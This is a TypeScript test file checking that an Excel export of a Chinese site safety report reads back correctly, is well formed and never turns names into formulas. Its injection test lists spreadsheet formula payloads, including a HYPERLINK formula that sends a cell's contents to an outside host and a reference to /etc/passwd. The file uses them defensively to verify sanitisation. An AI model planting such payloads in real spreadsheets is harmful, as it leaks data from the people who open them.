// The workbook reads back as the tables were, and nothing in it is ever a formula.
import { XMLValidator } from 'fast-xml-parser'
import { strFromU8, unzipSync } from 'fflate'
import readWorkbook from 'read-excel-file/node'
import { expect, it } from 'vitest'
import { buildDocument } from '../build-document.ts'
import { contentSha256, type ReportDocument } from '../report-document.ts'
import { sampleDay } from '../sample-figures.ts'
import { sampleNames, sampleTemplate } from '../sample-site.ts'
import { makeWorkbook } from './make-workbook.ts'

function build(names = sampleNames): ReportDocument {
  const template = { ...sampleTemplate, sections: ['summary', 'incidents', 'hours', 'responses', 'faultForm'] as const }
  return buildDocument({
    figures: sampleDay(),
    names,
    template: { ...template, sections: [...template.sections] },
    locale: 'zh-CN',
    number: null,
    version: '9.8.7',
    pictures: new Set(),
  })
}

const HOSTILE = '=HYPERLINK("http://x/?"&A1,"见此")'

it('has a sheet for each section, with the names, numbers, shares, durations and dates of the tables', async () => {
  const document = build()
  const sheets = await readWorkbook(await makeWorkbook(document, 'Vigil'))
  const names = sheets.map(({ sheet }) => sheet)
  expect(names).toEqual(expect.arrayContaining(['安全日报', '概况', '警情统计', '警情等级统计', '响应时效', '各等级的环节用时', '故障记录']))
  const rowsOf = (name: string) => sheets.find(({ sheet }) => sheet === name)!.data
  const step = rowsOf('响应时效').find(([first]) => first === '受理')!
  const { n, medianMs, inTime } = sampleDay().responses.all.acknowledge
  expect([step[1], step[5]]).toEqual([n, inTime])
  // a duration is a part of a day, which this reader takes for a time since the first one
  expect((step[2] as unknown as Date).getTime() - Date.UTC(1899, 11, 30)).toBeCloseTo(medianMs!, -1)
  const [fault] = sampleDay().fire!.faults
  const [atCell, ...rest] = rowsOf('故障记录').find(([first]) => first instanceof Date)!
  expect(rest.slice(0, 3)).toEqual(['地库消防控制柜', fault!.address, '故障'])
  // as the clocks of the site show it
  expect((atCell as unknown as Date).getTime()).toBeCloseTo(Math.floor((fault!.atMs + 8 * 3_600_000) / 1000) * 1000, -4)
  expect(rowsOf('安全日报').flat()).toContain(contentSha256(document))
})

it('is well formed, with filters, frozen headers and A4 landscape set up', async () => {
  const files = unzipSync(await makeWorkbook(build(), 'Vigil'))
  const xml = Object.entries(files).filter(([name]) => /\.(xml|rels)$/.test(name))
  expect(xml.length).toBeGreaterThan(8)
  for (const [name, bytes] of xml) expect(XMLValidator.validate(strFromU8(bytes)), name).toBe(true)
  const sheets = xml.filter(([name]) => name.startsWith('xl/worksheets/sheet')).map(([, bytes]) => strFromU8(bytes))
  for (const sheet of sheets) expect(sheet).toContain('<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>')
  expect(sheets.filter((sheet) => /<autoFilter ref="A\d+:[A-Z]+\d+"\/>/.test(sheet) && sheet.includes('state="frozen"')).length).toBeGreaterThan(3)
  expect(strFromU8(files['xl/workbook.xml']!)).toContain('_xlnm.Print_Titles')
})

it.each([HOSTILE, '+1+1', '-2', '@SUM(A1)', '\t=1', "='file:///etc/passwd'#A1", '<x>&"]]>', 'a\u0000b\u0008', '\ud800x'])(
  'never makes a formula of a name like %j',
  async (name) => {
    const named = (ids: Readonly<Record<string, string>>) => Object.fromEntries(Object.keys(ids).map((id) => [id, name]))
    const names = { siteName: name, buildings: named(sampleNames.buildings), cameras: named(sampleNames.cameras), devices: named(sampleNames.devices) }
    const bytes = await makeWorkbook(build(names), 'Vigil')
    const files = unzipSync(bytes)
    for (const [file, content] of Object.entries(files)) {
      expect(strFromU8(content), file).not.toMatch(/<f[ >]/)
      if (file.endsWith('.xml')) expect(XMLValidator.validate(strFromU8(content)), file).toBe(true)
    }
    const sheets = await readWorkbook(bytes)
    // as it was, but for characters that no XML may hold
    const kept = name
      .replaceAll(/\p{Cc}/gu, '')
      .toWellFormed()
      .replaceAll('\uFFFD', '')
      .trim()
    expect(sheets[0]!.data[0]![0]).toBe(kept)
    expect(Object.keys(files).some((file) => /externalLink|connections|vba/i.test(file))).toBe(false)
  },
)

it('cuts a text that is longer than a cell may hold', async () => {
  const sheets = await readWorkbook(await makeWorkbook(build({ ...sampleNames, siteName: 'x'.repeat(40_000) }), 'Vigil'))
  expect(String(sheets[0]!.data[0]![0])).toHaveLength(32_000)
})
